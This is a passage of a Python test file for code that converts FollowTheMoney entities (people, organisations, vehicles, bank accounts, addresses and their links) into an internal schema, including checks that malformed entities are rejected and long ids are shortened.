    def link(schema: str, **props: list[str]) -> list[tuple[str, str, str]]:
        obj = {"id": "x", "schema": schema, "properties": props}
        return [(li["type"], li["source"], li["target"]) for li in ftm_links(obj)]

    assert link("Directorship", director=["p"], organization=["o"]) == [("member_of", "p", "o")]
    assert link("Employment", employee=["p"], employer=["o"]) == [("member_of", "p", "o")]
    assert link("Membership", member=["p"], organization=["o"]) == [("member_of", "p", "o")]
    assert link("Associate", person=["p"], associate=["q", "r"]) == [
        ("associate", "p", "q"),
        ("associate", "p", "r"),
    ]
    assert link("Ownership", owner=["p"], asset=["a"]) == [("owns_uses", "p", "a")]
    assert link("Vehicle", owner=["p"]) == [("owns_uses", "p", "x")]
    assert link("Family", person=["p"]) == []


def test_vehicle_bank_account_and_address() -> None:
    vehicle = ftm_to_raw(
        {
            "id": "v",
            "schema": "Vehicle",
            "properties": {
                "registrationNumber": ["B-XY 123"],
                "country": ["de"],
                "type": ["Passenger car"],
            },
        }
    )
    assert vehicle["properties"] == {
        "plate": "B-XY 123",
        "plate_country": "de",
        "vehicle_type": "car",
    }
    account = ftm_to_raw(
        {
            "id": "b",
            "schema": "BankAccount",
            "properties": {
                "iban": ["DE89370400440532013000"],
                "bic": ["COBADEFFXXX"],
                "bankName": ["Commerzbank"],
            },
        }
    )
    assert account["properties"] == {
        "iban": "DE89370400440532013000",
        "bic": "COBADEFFXXX",
        "bank": "Commerzbank",
    }
    place = ftm_to_raw(
        {
            "id": "a",
            "schema": "Address",
            "properties": {
                "full": ["Hauptstr. 1, 10115 Berlin"],
                "postalCode": ["10115"],
                "city": ["Berlin"],
                "country": ["de"],
            },
        }
    )
    assert place["type"] == "Location"
    assert place["properties"] == {
        "address": "Hauptstr. 1, 10115 Berlin",
        "postcode": "10115",
        "city": "Berlin",
        "country": "de",
    }
    for raw in (vehicle, account, place):
        SCHEMA.get(raw["type"]).validate(raw["properties"])


def test_unsupported_schema_and_malformed_entities_are_refused() -> None:
    with pytest.raises(ValidationFailed, match="FollowTheMoney schema Vessel is not mapped"):
        ftm_to_raw({"id": "v", "schema": "Vessel", "properties": {"imoNumber": ["IMO 9074729"]}})
    with pytest.raises(ValidationFailed, match="no schema"):
        ftm_to_raw({"id": "v", "properties": {}})
    with pytest.raises(ValidationFailed, match="without an id"):
        ftm_to_raw({"schema": "Person", "properties": {}})
    with pytest.raises(ValidationFailed, match="properties"):
        ftm_to_raw({"id": "p", "schema": "Person", "properties": ["x"]})


def test_long_ids_are_shortened_deterministically_and_links_agree() -> None:
    long_id = "ocp-" + "x" * 300
    short = ftm_id(long_id)
    assert len(short) <= formats.MAX_ID
    assert short == ftm_id(long_id)
    assert short != ftm_id(long_id + "y")
    assert short.startswith(long_id[:32])
    assert ftm_id("NK-abc") == "NK-abc"
    person = ftm_to_raw({"id": long_id, "schema": "Person", "properties": {"name": ["A"]}})
    (link,) = ftm_links(
        {"id": "f", "schema": "Family", "properties": {"person": [long_id], "relative": ["b"]}}
    )
    assert person["id"] == link["source"] == short


def test_gender_values() -> None:
    def gender(value: str) -> str:
        obj = {"id": "p", "schema": "Person", "properties": {"name": ["A"], "gender": [value]}}
        return str(ftm_to_raw(obj)["properties"]["gender"])

    assert [gender(v) for v in ("male", "female", "other", "Female", "?")] == [
        "M",
        "F",
        "X",
        "F",
        "U",
    ]


def test_ftm_entity_values_win_over_defaults() -> None:
    obj = {"id": "p", "schema": "Person", "properties": {"name": ["A"], "nationality": ["fr"]}}
    raw = ftm_to_raw(obj, {"nationality": "DE", "country": "BE", "handling": "H0"})
    assert raw["properties"] == {"full_name": "A", "nationality": "fr", "country": "BE"}
    assert raw["handling"] == "H0"


def test_the_ftm_tables_name_real_types_properties_and_links() -> None:
    for schema, mapping in FTM_SCHEMATA.items():
        etype = SCHEMA.get(mapping.target)
        props = [p for _, p in mapping.properties] + [p for p, _ in mapping.fixed]
        for prop in props:
            assert prop in etype.properties, (schema, prop)
    for links in FTM_LINKS.values():
        for link in links:
            assert link.link in SCHEMA.links


def test_local_constants_agree_with_the_service() -> None:
    from liaison.entities import service

    assert formats.MARKING_FIELDS == service.MARKING_FIELDS
    assert formats.MAX_ID == service.MAX_SOURCE_REF


def test_an_ndjson_ftm_export_end_to_end() -> None:
    lines = [
        OPENSANCTIONS_PERSON,
        OPENSANCTIONS_COMPANY,
        {"id": "s", "schema": "Sanction", "properties": {}},
    ]
    data = "\n".join(json.dumps(o, ensure_ascii=False) for o in lines).encode()
    kinds = []
    for _, obj, err in read_ftm(data):
        assert err is None
        assert obj is not None
        try:
            kinds.append(ftm_to_raw(obj, {"subject_category": "suspect"})["type"])
        except ValidationFailed as exc:
            kinds.append(exc.detail.split(":")[0])
    assert kinds == ["Person", "Organisation", "FollowTheMoney schema Sanction is not mapped"]
